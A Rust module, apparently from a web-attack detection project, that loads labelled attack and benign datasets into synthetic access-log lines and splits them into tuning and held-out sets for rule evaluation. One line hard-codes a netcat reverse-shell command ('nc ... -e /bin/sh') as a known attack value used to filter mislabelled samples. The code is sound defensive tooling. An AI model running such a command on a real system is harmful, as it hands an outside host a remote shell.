//! The labelled sets under `../shared/data`, each read into samples: a request line as a server would log it, what its
//! owners say it is, and whether rules may be tuned to it. Knows no rule.
//!
//! # What counts as an attack here
//! Every sample its owners call an attack whose payload's bytes stand in the rendered line ([`Excluded::NotVisible`] is computed, not
//! assumed), and that says anything at all. Left out by tests that know no rule, each counted and printed: see [`Excluded`]. The
//! regression tests of the Core Rule Set have a file of their own, [`super::core_rule_set`].
//!
//! # How values are rendered
//! A value that holds a byte no request line can carry (a space, a quote, a bracket, a byte outside ASCII) was written down before
//! it was escaped: it is escaped as a browser would. Any other value stands as it was sent.
//!
//! # The split
//! Fixed by source before any rule was tuned, see [`SETS`]: rules may be looked at against `Tuning` sets only. Two sets are
//! divided, because some forms have no other examples: the regression tests by the rule they are for, fwaf by the folder of the path,
//! so that near-duplicates stay on one side. What was held out of two sets was divided once more, by the next bit of the rule's number
//! and by a hash of the attack's value: one part was read from then on (`…-read`), the other stays held out.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Read;
use std::path::Path;

use anyhow::{Context, Result};
use vigie_facts::form::Form;

use super::core_rule_set;

/// Whether rules may be tuned to a set.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Part {
    /// Its misses and false alarms may be looked at.
    Tuning,
    /// Only its figures may.
    HeldOut,
    /// A whole log without a label for each line: what is hit is counted, nothing is called right or wrong.
    Unlabelled,
}

/// What the owners of a set say of a sample.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum Label {
    /// No attack.
    Ordinary,
    /// An attack; any of these forms is the right name. Empty: the set does not say which.
    Attack(&'static [Form]),
}

/// One request line of a set.
#[derive(Clone, Debug)]
pub(crate) struct Sample {
    /// Name of the set.
    pub set: &'static str,
    /// Its part.
    pub part: Part,
    /// What it is.
    pub label: Label,
    /// The record, in combined format.
    pub line: String,
}

pub(super) const SQL: &[Form] = &[Form::SqlInjection];
pub(super) const XSS: &[Form] = &[Form::CrossSiteScripting];
pub(super) const COMMAND: &[Form] = &[Form::CommandInjection, Form::CodeInjection];
pub(super) const CODE: &[Form] =
    &[Form::CodeInjection, Form::CommandInjection, Form::TemplateInjection, Form::KnownVulnerability];
pub(super) const PATH: &[Form] = &[Form::PathTraversal, Form::FileInclusion, Form::SensitiveFileProbe];
/// What grananqvist calls shell: its notebook `0_Data_wrangling.ipynb` fills the class from a collection of command lines, program code
/// and "Directory Traversal - For Unix" (the first line it prints), so that traversal and inclusion are right names as well.
const SHELL: &[Form] = &[
    Form::CodeInjection,
    Form::CommandInjection,
    Form::TemplateInjection,
    Form::KnownVulnerability,
    Form::PathTraversal,
    Form::FileInclusion,
    Form::SensitiveFileProbe,
];
const ANY: &[Form] = &[];

/// Reads one set into samples.
type Reader = fn(&Path, &mut Collector) -> Result<()>;

/// Every set, its part and its reader.
const SETS: &[(&str, Part, Reader)] = &[
    ("httpparams-train", Part::Tuning, |data, to| http_params(&data.join("web-httpparams/payload_train.csv"), to)),
    ("libinjection", Part::Tuning, libinjection),
    ("libinjection-false", Part::Tuning, libinjection_false),
    ("csic2010", Part::Tuning, csic),
    ("gotestwaf-owasp", Part::Tuning, |data, to| {
        gotestwaf(&data.join("web-gotestwaf-crs/gotestwaf_testcases/owasp"), to)
    }),
    ("gotestwaf-false", Part::Tuning, |data, to| {
        gotestwaf(&data.join("web-gotestwaf-crs/gotestwaf_testcases/false-pos"), to)
    }),
    ("crs-even", Part::Tuning, |data, to| core_rule_set::read(data, &[0, 2], to)),
    ("crs-odd-read", Part::Tuning, |data, to| core_rule_set::read(data, &[1], to)),
    ("grananqvist-read", Part::Tuning, |data, to| grananqvist(data, true, to)),
    ("fwaf-even", Part::Tuning, |data, to| fwaf(data, 0, false, to)),
    ("fwaf-even-names", Part::Tuning, |data, to| fwaf(data, 0, true, to)),
    ("french-even", Part::Tuning, |data, to| french(data, 0, to)),
    ("semicomplete", Part::Tuning, |data, to| log(&data.join("weblogs-real/elastic-semicomplete-2015.log"), to)),
    ("generated", Part::Tuning, |_, to| {
        super::ordinary::lines(super::ordinary::LINES).for_each(|line| to.line(line, &Label::Ordinary));
        Ok(())
    }),
    ("httpparams-test", Part::HeldOut, |data, to| http_params(&data.join("web-httpparams/payload_test.csv"), to)),
    ("gotestwaf-community", Part::HeldOut, |data, to| {
        gotestwaf(&data.join("web-gotestwaf-crs/gotestwaf_testcases/community"), to)
    }),
    ("crs-odd", Part::HeldOut, |data, to| core_rule_set::read(data, &[3], to)),
    ("torpeda2012", Part::HeldOut, torpeda),
    ("fwaf-odd", Part::HeldOut, |data, to| fwaf(data, 1, false, to)),
    ("fwaf-odd-names", Part::HeldOut, |data, to| fwaf(data, 1, true, to)),
    ("grananqvist", Part::HeldOut, |data, to| grananqvist(data, false, to)),
    ("french-odd", Part::HeldOut, |data, to| french(data, 1, to)),
    ("acunetix", Part::Unlabelled, |data, to| log(&data.join("web-ocatak-scans/acunetix.log.gz"), to)),
    ("netsparker", Part::Unlabelled, |data, to| log(&data.join("web-ocatak-scans/netsparker.log.gz"), to)),
    ("w3af", Part::Unlabelled, |data, to| log(&data.join("web-ocatak-scans/w3af.log.gz"), to)),
    ("docker-honeypot", Part::Unlabelled, |data, to| log(&data.join("docker-honeypot/access.log.gz"), to)),
    ("secrepo", Part::Unlabelled, |data, to| log(&data.join("weblogs-real/secrepo-2021-10-22.log"), to)),
];

/// Why a sample its owners call an attack is not counted.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Excluded {
    /// The rendered line is equal to one before it in the set.
    Duplicate,
    /// The payload is empty or longer than the 4 KiB that servers log.
    Length,
    /// Letters, digits, dots, hyphens and underscores only: a word or a number, as an ordinary request holds it. (Sets that lost
    /// their backslashes have paths among these.)
    PlainWord,
    /// A template whose place for a file, an address or a command was never filled: `{file}`, `XXpathXX`, `{cmd}`.
    Placeholder,
    /// The payload's bytes do not stand in the rendered line.
    NotVisible,
    /// Payload in a body, or in a header that no access log has.
    Body,
    /// A test of several requests, of a response, or one that expects silence.
    NotOneRequest,
    /// Of rules that judge the form of a request, not its intent: protocol enforcement, sessions, responses.
    NoAttack,
    /// A value its owners call ordinary that is the example of a mislabelled attack in their description, or that the owners of another
    /// set (fwaf) call an attack, but for numbers in it.
    Contradicted,
    /// A test whose owners themselves say that what it sends is a false positive of their rule.
    CalledFalse,
    /// Of rules of paranoia level 3 or 4, which object to signs and words as such.
    Paranoia,
}

/// Gathers samples, dropping lines seen before in the same set.
pub(crate) struct Collector {
    set: &'static str,
    part: Part,
    seen: BTreeSet<String>,
    samples: Vec<Sample>,
    excluded: BTreeMap<Excluded, u64>,
    /// Status of the answers that are rendered: 200, or 404 for probes of programs that few servers have.
    status: u16,
}

/// What the templates of tools hold where a name, an address or a command was to be put.
const PLACEHOLDERS: &[&[u8]] = &[b"{file}", b"{FILE}", b"{cmd}", b"XXpathXX", b"@rfiurl", b"@RFIURL"];

/// Values longer than this do not fit a logged request line of common servers, escapes included.
const VALUE_BYTES_MAX: usize = 4 * 1024;

impl Collector {
    /// A target that is written as it was sent.
    pub(super) fn target(&mut self, target: &str, agent: &str, referrer: &str, label: &Label) {
        let line = format!(
            "192.0.2.1 - - [13/Feb/2017:20:00:00 +0000] \"GET {target} HTTP/1.1\" {} 512 \"{}\" \"{}\"",
            self.status,
            as_logged(referrer),
            as_logged(agent)
        );
        self.line(line, label);
    }

    fn line(&mut self, line: String, label: &Label) {
        if line.len() > 2 * VALUE_BYTES_MAX {
            self.exclude(label, Excluded::Length);
        } else if self.seen.insert(line.clone()) {
            self.samples.push(Sample { set: self.set, part: self.part, label: label.clone(), line });
        } else {
            self.exclude(label, Excluded::Duplicate);
        }
    }

    /// Counts an attack that is left out; ordinary samples are dropped without a word.
    pub(super) fn exclude(&mut self, label: &Label, why: Excluded) {
        if *label != Label::Ordinary {
            *self.excluded.entry(why).or_default() += 1;
        }
    }

    /// Whether an attack says anything at all; if not it is counted as left out.
    fn says_something(&mut self, payload: &[u8], label: &Label) -> bool {
        let plain = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_');
        let why = if payload.is_empty() || payload.len() > VALUE_BYTES_MAX {
            Excluded::Length
        } else if *label != Label::Ordinary && payload.iter().all(plain) {
            Excluded::PlainWord
        } else if PLACEHOLDERS.iter().any(|place| payload.windows(place.len()).any(|window| window == *place)) {
            Excluded::Placeholder
        } else {
            return true;
        };
        self.exclude(label, why);
        false
    }

    /// A plain value, escaped as a browser escapes it, in a parameter whose name says nothing.
    fn value(&mut self, value: &[u8], label: &Label) {
        if self.says_something(value, label) {
            self.visible(value, &format!("/page?value={}", escape(value)), label);
        }
    }

    /// A value that may have been escaped already.
    fn value_as_written(&mut self, value: &[u8], label: &Label) {
        let is_plain = value.iter().any(|byte| !(b'!'..=b'~').contains(byte) || matches!(byte, b'"' | b'<' | b'>'));
        if is_plain { self.value(value, label) } else { self.raw("/page?value=", value, label) }
    }

    /// A target or value that is written as it was sent; only what a request line cannot hold is escaped.
    fn raw(&mut self, prefix: &str, raw: &[u8], label: &Label) {
        if self.says_something(raw, label) {
            self.visible(raw, &format!("{prefix}{}", escape_least(raw)), label);
        }
    }

    /// Takes the target if the payload's bytes stand in it once one level of escapes is undone, or as they are.
    fn visible(&mut self, payload: &[u8], target: &str, label: &Label) {
        let seen = unescape(target.as_bytes(), false);
        // A payload that was escaped when it was written down is compared with its escapes undone as well.
        let stands_in = |text: &[u8], part: &[u8]| text.windows(part.len()).any(|window| window == part);
        if stands_in(target.as_bytes(), payload)
            || stands_in(&unescape(target.as_bytes(), true), payload)
            || stands_in(&seen, payload)
            || stands_in(&seen, &unescape(payload, false))
        {
            self.target(target, AGENT, "-", label);
        } else {
            self.exclude(label, Excluded::NotVisible);
        }
    }
}

/// Undoes one level of percent escapes.
fn unescape(bytes: &[u8], plus_is_space: bool) -> Vec<u8> {
    let (mut out, mut at) = (Vec::new(), 0);
    while at < bytes.len() {
        let escape = (bytes[at] == b'%').then(|| bytes.get(at + 1..at + 3)).flatten();
        let digits = escape.and_then(|digits| std::str::from_utf8(digits).ok());
        match digits.and_then(|digits| u8::from_str_radix(digits, 16).ok()) {
            Some(byte) => {
                out.push(byte);
                at += 2;
            }
            None if bytes[at] == b'+' && plus_is_space => out.push(b' '),
            None => out.push(bytes[at]),
        }
        at += 1;
    }
    out
}

const AGENT: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:52.0) Gecko/20100101 Firefox/52.0";

/// What was left out: the set, the reason, how many.
pub(crate) type Exclusions = Vec<(&'static str, Excluded, u64)>;

/// Every sample of every set found below `data` (or of those named, with commas between), in the order of [`SETS`], and the attacks that were left out.
pub(crate) fn samples(data: &Path, only: Option<&str>) -> Result<(Vec<Sample>, Exclusions)> {
    let mut all = Vec::new();
    let mut exclusions = Vec::new();
    for (set, part, read) in
        SETS.iter().filter(|(set, ..)| only.is_none_or(|only| only.split(',').any(|one| one == *set)))
    {
        let mut collector = Collector {
            set,
            part: *part,
            seen: BTreeSet::new(),
            samples: Vec::new(),
            excluded: BTreeMap::new(),
            status: 200,
        };
        read(data, &mut collector).with_context(|| format!("set {set}"))?;
        all.append(&mut collector.samples);
        exclusions.extend(collector.excluded.iter().map(|(why, count)| (*set, *why, *count)));
    }
    Ok((all, exclusions))
}

/// Logs of one's own, each `*.log` of the folder a set: ordinary lines if its name holds `ordinary`, attacks of no said form if not,
/// held out if its name begins with `held-out`.
pub(crate) fn logs_of(folder: &Path, only: Option<&str>) -> Result<Vec<Sample>> {
    let mut paths: Vec<_> = std::fs::read_dir(folder)?.flatten().map(|entry| entry.path()).collect();
    paths.retain(|path| path.extension().is_some_and(|end| end == "log"));
    paths.sort();
    let mut samples = Vec::new();
    for path in paths {
        let name = path.file_stem().unwrap_or_default().to_string_lossy().into_owned();
        if only.is_some_and(|only| only.split(',').all(|one| one != name)) {
            continue;
        }
        let part = if name.starts_with("held-out") { Part::HeldOut } else { Part::Tuning };
        let label = if name.contains("ordinary") { Label::Ordinary } else { Label::Attack(ANY) };
        // Names of sets live as long as the program, and there are as many as files.
        let set: &'static str = name.leak();
        for line in read(&path)?.split(|byte| *byte == b'\n').filter(|line| !line.is_empty()) {
            let line = String::from_utf8_lossy(line).into_owned();
            samples.push(Sample { set, part, label: label.clone(), line });
        }
    }
    Ok(samples)
}

/// Percent-escapes everything but unreserved characters; a space becomes a plus sign.
pub(super) fn escape(value: &[u8]) -> String {
    let mut out = String::new();
    for byte in value {
        match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => out.push(char::from(*byte)),
            b' ' => out.push('+'),
            _ => out.extend(["%".to_owned(), format!("{byte:02X}")]),
        }
    }
    out
}

pub(super) fn escape_least(raw: &[u8]) -> String {
    let mut out = String::new();
    for byte in raw {
        match byte {
            b'!'..=b'~' if !matches!(byte, b'"' | b'#') => out.push(char::from(*byte)),
            _ => out.extend(["%".to_owned(), format!("{byte:02X}")]),
        }
    }
    out
}

/// A header as Apache logs it: quotes, backslashes and what is not printable are escaped.
fn as_logged(header: &str) -> String {
    let mut out = String::new();
    for byte in header.bytes() {
        match byte {
            b'"' => out.push_str("\\\""),
            b'\\' => out.push_str("\\\\"),
            b' '..=b'~' => out.push(char::from(byte)),
            _ => out.extend(["\\x".to_owned(), format!("{byte:02x}")]),
        }
    }
    out
}

fn read(path: &Path) -> Result<Vec<u8>> {
    let bytes = std::fs::read(path).with_context(|| path.display().to_string())?;
    if path.extension().is_none_or(|end| end != "gz") {
        return Ok(bytes);
    }
    let mut out = Vec::new();
    flate2::read::MultiGzDecoder::new(&bytes[..]).read_to_end(&mut out).with_context(|| path.display().to_string())?;
    Ok(out)
}

/// Rows of a CSV file after its head.
fn rows(path: &Path) -> Result<Vec<Vec<Vec<u8>>>> {
    let bytes = read(path)?;
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), Vec::new());
    let mut quoted = false;
    let mut at = 0;
    while at < bytes.len() {
        match bytes[at] {
            b'"' if quoted && bytes.get(at + 1) == Some(&b'"') => {
                cell.push(b'"');
                at += 1;
            }
            b'"' => quoted = !quoted,
            b',' if !quoted => row.push(std::mem::take(&mut cell)),
            b'\r' if !quoted => {}
            b'\n' if !quoted => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            byte => cell.push(byte),
        }
        at += 1;
    }
    if !row.is_empty() || !cell.is_empty() {
        row.push(cell);
        rows.push(row);
    }
    if !rows.is_empty() {
        rows.remove(0);
    }
    Ok(rows)
}

fn http_params(path: &Path, to: &mut Collector) -> Result<()> {
    for row in rows(path)? {
        let [value, _, kind, ..] = &row[..] else { continue };
        let label = match &kind[..] {
            b"norm" => Label::Ordinary,
            b"sqli" => Label::Attack(SQL),
            b"xss" => Label::Attack(XSS),
            b"path-traversal" => Label::Attack(PATH),
            b"cmdi" => Label::Attack(COMMAND),
            _ => Label::Attack(ANY),
        };
        to.value(value, &label);
    }
    Ok(())
}

/// Values as they stood in addresses: partly escaped. Lines that begin with `#` are remarks of the collectors.
fn libinjection(data: &Path, to: &mut Collector) -> Result<()> {
    let mut paths: Vec<_> =
        std::fs::read_dir(data.join("web-libinjection"))?.flatten().map(|entry| entry.path()).collect();
    paths.sort();
    for path in paths {
        let name = path.file_name().unwrap_or_default().to_string_lossy().into_owned();
        let label = match name.split('-').next() {
            Some("sqli") => Label::Attack(SQL),
            Some("xss") => Label::Attack(XSS),
            _ => continue,
        };
        for line in read(&path)?.split(|byte| *byte == b'\n').filter(|line| !line.is_empty() && line[0] != b'#') {
            let line = line.strip_suffix(b"\r").unwrap_or(line);
            if label == Label::Attack(XSS) {
                // `test N <markup>` in some files.
                let value = match line.strip_prefix(b"test ") {
                    Some(rest) => rest.splitn(2, |byte| *byte == b' ').nth(1).unwrap_or_default(),
                    None => line,
                };
                to.value(value, &label);
            } else {
                to.value_as_written(line, &label);
            }
        }
    }
    Ok(())
}

fn libinjection_false(data: &Path, to: &mut Collector) -> Result<()> {
    for line in read(&data.join("web-libinjection/false_positives.txt"))?.split(|byte| *byte == b'\n') {
        if !line.is_empty() && line[0] != b'#' {
            to.raw("/page?value=", line, &Label::Ordinary);
        }
    }
    Ok(())
}

/// Ordinary requests of the generator. Its "anomalous" ones hold typing errors beside attacks and no label tells them apart, so they are
/// not counted as attacks.
fn csic(data: &Path, to: &mut Collector) -> Result<()> {
    for file in ["train_normal_lowercased.txt.gz", "test_normal_raw_http.txt.gz"] {
        for line in read(&data.join("web-csic2010").join(file))?.split(|byte| *byte == b'\n') {
            let mut words = line.splitn(3, |byte| *byte == b' ');
            let (Some(method), Some(target)) = (words.next(), words.next()) else { continue };
            let is_request = method.eq_ignore_ascii_case(b"get") || method.eq_ignore_ascii_case(b"post");
            let Some(target) = target.strip_prefix(b"http://localhost:8080").filter(|_| is_request) else { continue };
            to.raw("", target, &Label::Ordinary);
        }
    }
    Ok(())
}

pub(super) fn yaml(path: &Path) -> Result<yaml_serde::Value> {
    yaml_serde::from_slice(&std::fs::read(path)?).with_context(|| path.display().to_string())
}

fn gotestwaf(folder: &Path, to: &mut Collector) -> Result<()> {
    let mut paths: Vec<_> = std::fs::read_dir(folder)?.flatten().map(|entry| entry.path()).collect();
    paths.sort();
    for path in paths {
        let name = path.file_stem().unwrap_or_default().to_string_lossy().into_owned();
        let label = match name.trim_start_matches("community-") {
            "texts" => Label::Ordinary,
            "crlf" => Label::Attack(&[Form::CrlfInjection]),
            "ldap-injection" => Label::Attack(&[Form::LdapInjection]),
            "mail-injection" => Label::Attack(&[Form::MailInjection]),
            "nosql-injection" => Label::Attack(&[Form::NosqlInjection]),
            "path-traversal" | "lfi" | "lfi-multipart" => Label::Attack(PATH),
            "shell-injection" | "rce" | "rce-urlparam" | "rce-urlpath" => Label::Attack(CODE),
            "sql-injection" | "sqli" => Label::Attack(SQL),
            "ss-include" => {
                Label::Attack(&[Form::SsiInjection, Form::XmlExternalEntity, Form::ServerSideRequestForgery])
            }
            "sst-injection" => Label::Attack(&[Form::TemplateInjection, Form::CodeInjection, Form::KnownVulnerability]),
            "xml-injection" | "xxe" => Label::Attack(&[Form::XmlExternalEntity, Form::XpathInjection]),
            "xss-scripting" | "xss" => Label::Attack(XSS),
            "user-agent" => Label::Attack(&[Form::VulnerabilityScan]),
            _ => continue,
        };
        for payload in payloads(&String::from_utf8_lossy(&std::fs::read(&path)?)) {
            if name == "community-user-agent" {
                to.target("/", &payload, "-", &label);
            } else {
                to.value(payload.as_bytes(), &label);
            }
        }
    }
    Ok(())
}

/// The scalars of the list `payload:`. Some of these files are not valid YAML (escapes that it does not have), so they are read by line.
fn payloads(text: &str) -> Vec<String> {
    let list = text.lines().skip_while(|line| !line.starts_with("payload:")).skip(1);
    let items = list.take_while(|line| line.is_empty() || line.starts_with([' ', '-']));
    let scalars = items.filter_map(|line| line.trim_start().strip_prefix("- "));
    scalars
        .map(|scalar| match scalar.as_bytes() {
            [b'\'', .., b'\''] => scalar[1..scalar.len() - 1].replace("''", "'"),
            [b'"', .., b'"'] => scalar[1..scalar.len() - 1].replace("\\\"", "\"").replace("\\\\", "\\"),
            _ => scalar.to_owned(),
        })
        .collect()
}

/// Only the SQL attacks survived in this mirror; a tool wrote them, so equal lines are dropped as everywhere.
fn torpeda(data: &Path, to: &mut Collector) -> Result<()> {
    for row in rows(&data.join("web-torpeda2012/torpeda.csv.gz"))? {
        let [label, _, path, query, ..] = &row[..] else { continue };
        let label = match &label[..] {
            b"SQLi" => Label::Attack(SQL),
            b"normal" => Label::Ordinary,
            _ => continue,
        };
        let target = [&path[..], if query.is_empty() { b"" } else { b"?" }, query].concat();
        to.raw("", &target, &label);
    }
    Ok(())
}

/// Noisy: some lines are names of paths and nothing more (of old vulnerable programs, or chosen for a word such as `script` in them); they are
/// a set of their own. Lines whose path has the same folder stay together.
fn fwaf(data: &Path, remainder: u64, names: bool, to: &mut Collector) -> Result<()> {
    to.status = 404;
    for line in read(&data.join("web-fwaf-badqueries/badqueries.txt.gz"))?.split(|byte| *byte == b'\n') {
        let line = line.strip_suffix(b"\r").unwrap_or(line);
        let path = line.split(|byte| *byte == b'?').next().unwrap_or_default();
        let folder = &path[..path.iter().rposition(|byte| *byte == b'/').unwrap_or(0)];
        let is_name = line.iter().all(|byte| byte.is_ascii_alphanumeric() || b"/._-~'".contains(byte))
            && !line.windows(2).any(|pair| pair == b"..");
        if (hash(folder) >> 32) % 2 == remainder && is_name == names {
            to.raw(if line.first() == Some(&b'/') { "" } else { "/" }, line, &Label::Attack(ANY));
        }
    }
    Ok(())
}

/// FNV-1a, 64 bits.
fn hash(bytes: &[u8]) -> u64 {
    bytes.iter().fold(0xcbf2_9ce4_8422_2325, |hash, byte| (hash ^ u64::from(*byte)).wrapping_mul(0x0100_0000_01b3))
}

/// Its ordinary values hold attacks, as its description says and quotes: those that are the quoted one but for numbers, and those that
/// fwaf lists as attacks, are left out. `to_read` takes a quarter of the attacks, chosen by a hash of the value in lower case without its
/// numbers (so that variants stay together), instead of the others and the ordinary values.
fn grananqvist(data: &Path, to_read: bool, to: &mut Collector) -> Result<()> {
    let mut attacks = values_of_attacks(data)?;
    attacks.insert(without_numbers(b"nc 192.168.202.118 21942 -e /bin/sh"));
    for row in rows(&data.join("web-grananqvist/payloads.csv.gz"))? {
        let [_, value, _, kind, ..] = &row[..] else { continue };
        let label = match &kind[..] {
            b"LEGAL" => Label::Ordinary,
            b"XSS" => Label::Attack(XSS),
            b"SQL" => Label::Attack(SQL),
            b"SHELL" => Label::Attack(SHELL),
            _ => continue,
        };
        let is_read = label != Label::Ordinary && (hash(&without_numbers(value)) >> 32).is_multiple_of(4);
        if is_read != to_read {
            continue;
        }
        if label == Label::Ordinary && attacks.contains(&without_numbers(value)) {
            *to.excluded.entry(Excluded::Contradicted).or_default() += 1;
            continue;
        }
        to.value_as_written(value, &label);
    }
    Ok(())
}

/// The values in the queries of fwaf's attacks, whole and up to the next ampersand, their numbers folded; plain words are not among them.
fn values_of_attacks(data: &Path) -> Result<BTreeSet<Vec<u8>>> {
    let mut values = BTreeSet::new();
    for line in read(&data.join("web-fwaf-badqueries/badqueries.txt.gz"))?.split(|byte| *byte == b'\n') {
        let Some(mark) = line.iter().position(|byte| *byte == b'?') else { continue };
        let query = &line[mark + 1..];
        for (at, _) in query.iter().enumerate().filter(|(_, byte)| **byte == b'=') {
            let whole = &query[at + 1..];
            let value = whole.split(|byte| *byte == b'&').next().unwrap_or_default();
            for one in [whole, value].map(without_numbers) {
                if one.len() >= 6 && one.iter().any(|byte| b" '\"<>;|`$()&".contains(byte)) {
                    values.insert(one);
                }
            }
        }
    }
    Ok(values)
}

/// A value with its escapes undone, every run of digits a single zero, without white space at its ends.
fn without_numbers(value: &[u8]) -> Vec<u8> {
    let mut out = unescape(value, true);
    out.make_ascii_lowercase();
    for byte in out.iter_mut().filter(|byte| byte.is_ascii_digit()) {
        *byte = b'0';
    }
    out.dedup_by(|one, two| *one == b'0' && *two == b'0');
    out.trim_ascii().to_vec()
}

fn french(data: &Path, remainder: usize, to: &mut Collector) -> Result<()> {
    for (at, row) in rows(&data.join("french-benign-params/params.csv.gz"))?.into_iter().enumerate() {
        let [_, _, escaped, ..] = &row[..] else { continue };
        if at % 2 == remainder {
            to.raw("/page?value=", escaped, &Label::Ordinary);
        }
    }
    Ok(())
}

/// A whole log of mostly ordinary lines; what fires is reviewed by eye, see the list beside the tests of `vigie-detect`.
fn log(path: &Path, to: &mut Collector) -> Result<()> {
    for line in read(path)?.split(|byte| *byte == b'\n').filter(|line| !line.is_empty()) {
        to.line(String::from_utf8_lossy(line).into_owned(), &Label::Ordinary);
    }
    Ok(())
}
